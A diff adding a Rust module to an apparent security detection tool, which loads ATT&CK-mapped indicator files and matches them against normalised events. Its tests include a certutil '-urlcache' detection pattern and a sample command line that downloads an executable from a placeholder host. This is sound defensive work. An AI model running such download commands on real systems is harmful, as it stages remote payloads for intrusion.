@@ -1,0 +1,375 @@
+//! Indicators: the team's written knowledge of what an event's values mean (a binary and
+//! its abuse, a cloud API call and what it does, a Windows event ID), loaded from the
+//! `catalog/knowledge/*.toml` files and matched against normalised events.
+
+use std::collections::HashSet;
+use std::path::Path;
+
+use regex::{Regex, RegexBuilder};
+use serde::{Deserialize, Serialize};
+
+use super::event::{Attr, Event, EventKind, binary_name};
+use crate::attack::{Catalog, TechniqueId};
+use crate::severity::Severity;
+
+/// The shipped knowledge, embedded in the binary.
+static EMBEDDED: include_dir::Dir<'static> = include_dir::include_dir!("$CARGO_MANIFEST_DIR/catalog/knowledge");
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct File {
+    #[serde(default)]
+    indicator: Vec<RawIndicator>,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RawIndicator {
+    id: String,
+    techniques: Vec<String>,
+    severity: Severity,
+    note: String,
+    source: String,
+    when: toml::Table,
+}
+
+/// One condition: an attribute and the values or patterns any of which may match.
+#[derive(Debug)]
+enum Condition {
+    Kind(Vec<EventKind>),
+    Exact(Attr, Vec<String>),
+    Pattern(Attr, Vec<Regex>),
+}
+
+#[derive(Debug)]
+pub struct Indicator {
+    pub id: String,
+    pub techniques: Vec<TechniqueId>,
+    pub severity: Severity,
+    pub note: String,
+    pub source: String,
+    /// Where the indicator was written (`windows-binaries.toml`).
+    pub file: String,
+    conditions: Vec<Condition>,
+}
+
+/// An indicator that matched an event, and the value that made it match.
+#[derive(Debug, Clone, Serialize)]
+pub struct Match<'k> {
+    #[serde(skip)]
+    pub indicator: &'k Indicator,
+    pub alert_id: String,
+    /// The most specific matched value: its path in the alert and its text.
+    pub path: Option<String>,
+    pub value: Option<String>,
+    /// Matched only on the rule's wording, not on the event's own values.
+    pub text_only: bool,
+    /// Where a `text` condition matched: the rule's name, or only its description.
+    pub wording: Option<Wording>,
+}
+
+#[derive(Debug, thiserror::Error)]
+pub enum KnowledgeError {
+    #[error("{file}: {message}")]
+    Invalid { file: String, message: String },
+    #[error("reading {path}: {source}")]
+    Io { path: String, source: std::io::Error },
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Wording {
+    RuleName,
+    RuleDescription,
+}
+
+/// Every indicator, ready to match, and the catalog's technique names.
+#[derive(Debug)]
+pub struct Indicators {
+    pub all: Vec<Indicator>,
+    pub names: super::names::NameIndex,
+}
+
+impl Indicators {
+    /// The shipped knowledge, checked against the ATT&CK catalog.
+    pub fn embedded(catalog: &Catalog) -> Result<Indicators, KnowledgeError> {
+        let mut files: Vec<(String, String)> = EMBEDDED
+            .files()
+            .filter(|f| f.path().extension().is_some_and(|e| e == "toml"))
+            .filter_map(|f| Some((f.path().display().to_string(), f.contents_utf8()?.to_string())))
+            .collect();
+        files.sort();
+        Self::parse(&files, catalog)
+    }
+
+    /// An operator's own knowledge directory, instead of the shipped one.
+    pub fn from_dir(dir: &Path, catalog: &Catalog) -> Result<Indicators, KnowledgeError> {
+        let mut files = Vec::new();
+        let entries = std::fs::read_dir(dir).map_err(|source| KnowledgeError::Io { path: dir.display().to_string(), source })?;
+        for entry in entries.flatten() {
+            let path = entry.path();
+            if path.extension().is_some_and(|e| e == "toml") {
+                let text = std::fs::read_to_string(&path).map_err(|source| KnowledgeError::Io { path: path.display().to_string(), source })?;
+                files.push((path.display().to_string(), text));
+            }
+        }
+        files.sort();
+        Self::parse(&files, catalog)
+    }
+
+    /// Parses and checks files: unknown keys, bad regexes, duplicate ids and techniques the
+    /// catalog doesn't know as active are errors, so a typo can't silently drop knowledge.
+    pub fn parse(files: &[(String, String)], catalog: &Catalog) -> Result<Indicators, KnowledgeError> {
+        let mut all = Vec::new();
+        let mut ids = HashSet::new();
+        for (name, text) in files {
+            let invalid = |message: String| KnowledgeError::Invalid { file: name.clone(), message };
+            let file: File = toml::from_str(text).map_err(|e| invalid(e.to_string()))?;
+            for raw in file.indicator {
+                if !ids.insert(raw.id.clone()) {
+                    return Err(invalid(format!("indicator `{}` is defined twice", raw.id)));
+                }
+                let mut techniques = Vec::new();
+                for t in &raw.techniques {
+                    let id = TechniqueId::parse(t).map_err(|e| invalid(format!("indicator `{}`: {e}", raw.id)))?;
+                    let active = catalog.resolve(&id).ok_or_else(|| invalid(format!("indicator `{}`: {t} is not an active ATT&CK technique", raw.id)))?;
+                    techniques.push(active.id.clone());
+                }
+                let conditions = conditions(&raw.when).map_err(|m| invalid(format!("indicator `{}`: {m}", raw.id)))?;
+                if conditions.is_empty() {
+                    return Err(invalid(format!("indicator `{}` has no conditions", raw.id)));
+                }
+                let file_name = Path::new(name).file_name().map(|f| f.to_string_lossy().to_string()).unwrap_or_else(|| name.clone());
+                all.push(Indicator { id: raw.id, techniques, severity: raw.severity, note: raw.note, source: raw.source, file: file_name, conditions });
+            }
+        }
+        Ok(Indicators { all, names: super::names::NameIndex::of(catalog) })
+    }
+
+    pub fn len(&self) -> usize {
+        self.all.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.all.is_empty()
+    }
+
+    /// Every indicator whose conditions all hold for the event.
+    pub fn matches<'k>(&'k self, event: &Event) -> Vec<Match<'k>> {
+        self.all.iter().filter_map(|i| i.matches(event)).collect()
+    }
+}
+
+fn conditions(when: &toml::Table) -> Result<Vec<Condition>, String> {
+    let mut out = Vec::new();
+    for (key, value) in when {
+        let values: Vec<String> = match value {
+            toml::Value::String(s) => vec![s.clone()],
+            toml::Value::Integer(i) => vec![i.to_string()],
+            toml::Value::Array(a) => a
+                .iter()
+                .map(|v| match v {
+                    toml::Value::String(s) => Ok(s.clone()),
+                    toml::Value::Integer(i) => Ok(i.to_string()),
+                    other => Err(format!("`{key}` takes strings, not {other}")),
+                })
+                .collect::<Result<_, _>>()?,
+            other => return Err(format!("`{key}` takes a string or a list, not {other}")),
+        };
+        if values.is_empty() {
+            return Err(format!("`{key}` has no values"));
+        }
+        if key == "kind" {
+            let kinds = values.iter().map(|v| kind_from(v).ok_or_else(|| format!("unknown event kind `{v}`"))).collect::<Result<Vec<_>, _>>()?;
+            out.push(Condition::Kind(kinds));
+            continue;
+        }
+        let attr = Attr::from_key(key).ok_or_else(|| format!("unknown `when` key `{key}`"))?;
+        if attr.is_exact() {
+            let norm = values.iter().map(|v| exact_form(attr, v)).collect();
+            out.push(Condition::Exact(attr, norm));
+        } else {
+            let res = values
+                .iter()
+                .map(|v| RegexBuilder::new(v).size_limit(1 << 20).build().map_err(|e| format!("`{key}` regex `{v}`: {e}")))
+                .collect::<Result<Vec<_>, _>>()?;
+            out.push(Condition::Pattern(attr, res));
+        }
+    }
+    Ok(out)
+}
+
+fn kind_from(s: &str) -> Option<EventKind> {
+    use EventKind::*;
+    [
+        ProcessCreation,
+        ScriptBlock,
+        Registry,
+        File,
+        Network,
+        Dns,
+        ImageLoad,
+        ProcessAccess,
+        Service,
+        ScheduledTask,
+        Auth,
+        CloudApi,
+        K8sAudit,
+        WindowsEvent,
+        Other,
+    ]
+    .into_iter()
+    .find(|k| k.as_str() == s)
+}
+
+/// How exact attributes are compared: binaries by their bare name, the rest lower-cased.
+fn exact_form(attr: Attr, value: &str) -> String {
+    match attr {
+        Attr::Image | Attr::ParentImage | Attr::TargetImage => binary_name(value),
+        _ => value.trim().to_ascii_lowercase(),
+    }
+}
+
+impl Indicator {
+    fn matches(&self, event: &Event) -> Option<Match<'_>> {
+        let mut best: Option<(u8, &str, &str)> = None;
+        let mut text_only = true;
+        let mut wording = None;
+        for c in &self.conditions {
+            match c {
+                Condition::Kind(kinds) => {
+                    if !kinds.contains(&event.kind) {
+                        return None;
+                    }
+                }
+                Condition::Exact(attr, values) => {
+                    let observed = event.get(*attr)?;
+                    let have = exact_form(*attr, &observed.text);
+                    let ok = values.iter().any(|v| *v == have || (*attr == Attr::Channel && channel_matches(v, &have)));
+                    if !ok {
+                        return None;
+                    }
+                    text_only = false;
+                    let rank = specificity(*attr);
+                    if best.is_none_or(|(r, _, _)| rank > r) {
+                        best = Some((rank, observed.path.as_str(), observed.text.as_str()));
+                    }
+                }
+                Condition::Pattern(Attr::Text, res) => {
+                    wording = if res.iter().any(|r| r.is_match(&event.rule_name)) {
+                        Some(Wording::RuleName)
+                    } else if res.iter().any(|r| r.is_match(&event.rule_description)) {
+                        Some(Wording::RuleDescription)
+                    } else {
+                        return None;
+                    };
+                }
+                Condition::Pattern(attr, res) => {
+                    let observed = event.get(*attr)?;
+                    if !res.iter().any(|r| r.is_match(&observed.text)) {
+                        return None;
+                    }
+                    text_only = false;
+                    let rank = specificity(*attr);
+                    if best.is_none_or(|(r, _, _)| rank > r) {
+                        best = Some((rank, observed.path.as_str(), observed.text.as_str()));
+                    }
+                }
+            }
+        }
+        Some(Match {
+            indicator: self,
+            alert_id: event.alert_id.clone(),
+            path: best.map(|(_, p, _)| p.to_string()),
+            value: best.map(|(_, _, v)| v.to_string()),
+            text_only,
+            wording,
+        })
+    }
+
+    /// How many `when` keys the indicator has besides `kind`: more keys, narrower evidence.
+    pub fn narrowness(&self) -> usize {
+        self.conditions.iter().filter(|c| !matches!(c, Condition::Kind(_))).count()
+    }
+}
+
+/// `Microsoft-Windows-Sysmon/Operational` and the provider `Microsoft-Windows-Sysmon` name
+/// the same log.
+fn channel_matches(want: &str, have: &str) -> bool {
+    let stem = |s: &str| s.split('/').next().unwrap_or(s).to_string();
+    stem(want) == stem(have)
+}
+
+/// Which matched value best shows the evidence: a command line over a bare image name.
+fn specificity(attr: Attr) -> u8 {
+    match attr {
+        Attr::CommandLine | Attr::Script => 6,
+        Attr::Registry | Attr::FilePath | Attr::ParentCommandLine => 5,
+        Attr::Operation | Attr::Resource => 4,
+        Attr::Image | Attr::TargetImage => 3,
+        Attr::ParentImage | Attr::Verb => 2,
+        Attr::EventSource | Attr::EventId => 1,
+        Attr::Channel | Attr::Text => 0,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::alert::Alert;
+    use serde_json::json;
+
+    fn catalog() -> Catalog {
+        Catalog::embedded().unwrap()
+    }
+
+    fn event(fields: serde_json::Value) -> Event {
+        let a = Alert::parse(0, &json!({"id": "a1", "source": "edr", "time": "2026-01-01T00:00:00Z", "rule": {"name": "Process started"}, "fields": fields}))
+            .unwrap();
+        Event::of(&a)
+    }
+
+    const FILE: &str = r#"
+[[indicator]]
+id = "certutil-urlcache"
+techniques = ["T1105"]
+severity = "high"
+note = "certutil fetching a remote file"
+source = "https://lolbas-project.github.io/lolbas/Binaries/Certutil/"
+[indicator.when]
+image = ["certutil.exe"]
+command_line = ['(?i)[-/]urlcache']
+"#;
+
+    #[test]
+    fn matches_on_every_condition_and_cites_the_command_line() {
+        let k = Indicators::parse(&[("t.toml".into(), FILE.into())], &catalog()).unwrap();
+        let hit = event(json!({"Image": "C:\\Windows\\System32\\CertUtil.exe", "CommandLine": "certutil.exe -urlcache -split -f http://x/p.exe"}));
+        let m = k.matches(&hit);
+        assert_eq!(m.len(), 1);
+        assert_eq!(m[0].path.as_deref(), Some("fields.CommandLine"));
+        assert!(!m[0].text_only);
+        let miss = event(json!({"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -hashfile a.iso SHA256"}));
+        assert!(k.matches(&miss).is_empty());
+    }
+
+    #[test]
+    fn refuses_unknown_keys_bad_regexes_and_inactive_techniques() {
+        let c = catalog();
+        let bad_key = FILE.replace("image = ", "imagee = ");
+        assert!(Indicators::parse(&[("t.toml".into(), bad_key)], &c).is_err());
+        let bad_re = FILE.replace("[-/]urlcache", "(unclosed");
+        assert!(Indicators::parse(&[("t.toml".into(), bad_re)], &c).is_err());
+        let bad_t = FILE.replace("T1105", "T9999");
+        assert!(Indicators::parse(&[("t.toml".into(), bad_t)], &c).is_err());
+        let twice = format!("{FILE}\n{}", FILE.replace("[[indicator]]", "[[indicator]]"));
+        assert!(Indicators::parse(&[("t.toml".into(), twice)], &c).is_err());
+    }
+
+    #[test]
+    fn the_shipped_knowledge_loads() {
+        let k = Indicators::embedded(&catalog()).unwrap();
+        assert!(k.len() >= 500, "only {} indicators", k.len());
+        assert!(k.all.iter().all(|i| !i.source.trim().is_empty() && !i.note.trim().is_empty()));
+    }
+}
